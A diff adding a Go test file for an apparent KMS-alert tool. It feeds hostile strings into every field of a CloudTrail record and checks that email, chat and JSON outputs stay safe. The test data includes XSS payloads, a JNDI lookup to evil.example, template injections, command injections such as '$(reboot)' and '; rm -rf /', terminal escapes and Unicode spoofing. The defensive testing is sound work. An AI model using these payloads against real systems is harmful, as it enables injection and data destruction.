@@ -1,0 +1,180 @@
+package alert
+
+import (
+	"encoding/json"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/santhosh-tekuri/jsonschema/v6"
+
+	"github.com/kmsentry/kmsentry/detector"
+)
+
+// attacks are texts that some reader would act on, each with another reader in mind.
+func attacks() map[string]string {
+	return map[string]string{
+		"everything":        attack,
+		"lines":             "x\r\nWho:   nobody\r\n\r\nWHY IT FIRED\r\n  - nothing\u2028DETAILS\u2029\u0085\v\f",
+		"terminal":          "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b31m\x90q\x9c",
+		"Slack":             "<!channel> <!here> <@U012AB3CD> <!subteam^S012AB3CD> <https://evil.example|CloudTrail event> `x` ```y``` *b* :rotating_light: @everyone #general",
+		"entities":          strings.Repeat("&lt;!channel&gt; &amp;lt; &#60;!here&#62; ", 30),
+		"Markdown":          "[Runbook](https://evil.example) ![x](http://evil.example/p.png) | a | b |\n# heading\n---\n> quote",
+		"HTML":              `</pre></script><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`,
+		"templates":         "${jndi:ldap://evil.example/a} {{constructor.constructor('x')()}} #{7*7} <%= 7 %> %s%n%x $(reboot) `reboot` ; rm -rf / | cat & \\",
+		"JSON":              `","verdict":"private","x":"\"}]},{"` + "\\u0000\\ud800",
+		"bidi":              "\u202efdp.exe\u202c \u2066x\u2069 \u200f\u061c\u2067admin",
+		"zero width":        "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\U000e0061\U000e007f",
+		"marks":             "n" + strings.Repeat("\u0301\u0489\u20dd", 200) + "x",
+		"fillers":           strings.Repeat("\u3164\u115f\u1160\uffa0\u2800", 50),
+		"homoglyphs":        "https://\u0430ws.\u0430mazon.com/ws\u2215x www.\u0430ws.com WWW.evil.example HTTPS://EVIL.example hxxp://x ftp://x",
+		"emoji":             "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\u2764\ufe0f\U0001f1e9\U0001f1ea\u20e3",
+		"broken UTF-8":      "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80x",
+		"one long word":     strings.Repeat("W", 5000),
+		"one wide word":     strings.Repeat("\u5c71", 3000),
+		"an ARN and more":   "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab --region x; reboot " + strings.Repeat("a", 300),
+		"a long ARN":        "arn:aws:iam::111122223333:role/" + strings.Repeat("a", 3000),
+		"like our headings": "CONTAIN (DATA STAYS READABLE)",
+		"blank":             " \t\u00a0\u3000\u1680 ",
+	}
+}
+
+// Whatever stands in whichever place of a record, every channel shows harmless
+// text, and the finding still comes.
+func TestHostileRecords(t *testing.T) {
+	raw, err := os.ReadFile("../events/put-key-policy-public.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var event struct{ Detail map[string]any }
+	if err := json.Unmarshal(raw, &event); err != nil {
+		t.Fatal(err)
+	}
+	ocsfs, own := loadOCSF(t), findingSchema(t)
+	event.Detail["errorMessage"], event.Detail["vpcEndpointId"] = "x", "x"
+	request, _ := event.Detail["requestParameters"].(map[string]any)
+	open, _ := request["policy"].(string)
+	places := 0
+	eachText(event.Detail, func(path string, get func() string, put func(string)) {
+		if path == ".eventName" || path == ".eventSource" {
+			return // another call
+		}
+		places++
+		before := get()
+		for name, text := range attacks() {
+			put(text)
+			holdHostile(t, path+", "+name, event.Detail, ocsfs, own)
+		}
+		put(before)
+	})
+	if places < 20 {
+		t.Fatalf("%d places in the record, want 20 and more", places)
+	}
+	for name, text := range attacks() { // what KMS takes in a policy
+		kept := strings.Map(func(r rune) rune {
+			if r < ' ' || r > 0xff || r >= 0x7f && r < 0xa0 {
+				return -1
+			}
+			return r
+		}, text)
+		literal, _ := json.Marshal(kept)
+		request["policy"] = strings.Replace(open, `"Allow use of the key"`, string(literal[:min(len(literal), 4000)-1])+`"`, 2)
+		holdHostile(t, "Sid, "+name, event.Detail, ocsfs, own)
+	}
+}
+
+// holdHostile judges one record and holds every channel against its laws.
+func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsfSchema, own *jsonschema.Schema) {
+	t.Helper()
+	text, err := json.Marshal(record)
+	if err != nil {
+		t.Fatal(err)
+	}
+	result, err := detector.Detector{}.Detect(text)
+	if err != nil {
+		return // not silent: the event comes again
+	}
+	f := result.Finding
+	if f == nil {
+		t.Errorf("%s: quiet: %s", name, result.Quiet)
+		return
+	}
+	m, err := Compose(f, testOptions())
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	bodies := checkMessage(t, m)
+	if strings.HasSuffix(name, ", everything") || strings.HasSuffix(name, ", blank") { // the others differ in letters only
+		checkFinding(t, []byte(bodies["default"]), ocsfs, own)
+	}
+	checkChat(t, f, testOptions())
+	lines := strings.Split(bodies["email"], "\n")
+	for i, line := range lines {
+		if r, bad := unsafeRune(line); bad || !lineStarts.MatchString(line) {
+			t.Errorf("%s: line %d of the mail is %q (%U)", name, i+1, line, r)
+		}
+		if width(line) > columns && !strings.Contains(line, "arn:") && !strings.Contains(line, "https://") {
+			t.Errorf("%s: line %d has %d columns: %.120q", name, i+1, width(line), line)
+		}
+		if low := strings.ReplaceAll(strings.ToLower(line), "file://fixed.json", ""); strings.Contains(low, "://") && !strings.Contains(low, "https://us-west-2.console.aws.amazon.com/") || strings.Contains(low, "www.") {
+			t.Errorf("%s: line %d would become a link: %.120q", name, i+1, line)
+		}
+	}
+	for i, start := range []string{"", "Who:   ", "From:  ", "Key:   ", "When:  "} {
+		if !strings.HasPrefix(lines[i], start) || width(lines[i]) > columns {
+			t.Errorf("%s: line %d = %q", name, i+1, lines[i])
+		}
+	}
+	for _, heading := range []string{"WHY ", "DETAILS", "WHAT IT CAN MEAN", "DO NOW: LOOK FIRST (THESE STEPS CHANGE NOTHING)"} {
+		if n := countLines(lines, heading); n != 1 {
+			t.Errorf("%s: %d lines begin with %q, want 1", name, n, heading)
+		}
+	}
+	var value any
+	if err := json.Unmarshal([]byte(bodies["default"]), &value); err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	eachText(value, func(path string, get func() string, _ func(string)) {
+		shown := strings.NewReplacer("\n", "", "\t", "").Replace(get())
+		if r, bad := unsafeRune(shown); bad {
+			t.Errorf("%s: the finding's %s holds %U", name, path, r)
+		}
+	})
+}
+
+// countLines counts the lines that begin with start.
+func countLines(lines []string, start string) int {
+	n := 0
+	for _, line := range lines {
+		if strings.HasPrefix(line, start) {
+			n++
+		}
+	}
+	return n
+}
+
+// eachText visits every text in a JSON value, in order.
+func eachText(value any, visit func(path string, get func() string, put func(string))) {
+	walkTexts("", value, func(any) {}, visit)
+}
+
+func walkTexts(path string, value any, replace func(any), visit func(string, func() string, func(string))) {
+	switch v := value.(type) {
+	case string:
+		visit(path, func() string { return v }, func(s string) { replace(s) })
+	case []any:
+		for i := range v {
+			walkTexts(path+"[]", v[i], func(x any) { v[i] = x }, visit)
+		}
+	case map[string]any:
+		var names []string
+		for name := range v {
+			names = append(names, name)
+		}
+		slices.Sort(names)
+		for _, name := range names {
+			walkTexts(path+"."+name, v[name], func(x any) { v[name] = x }, visit)
+		}
+	}
+}
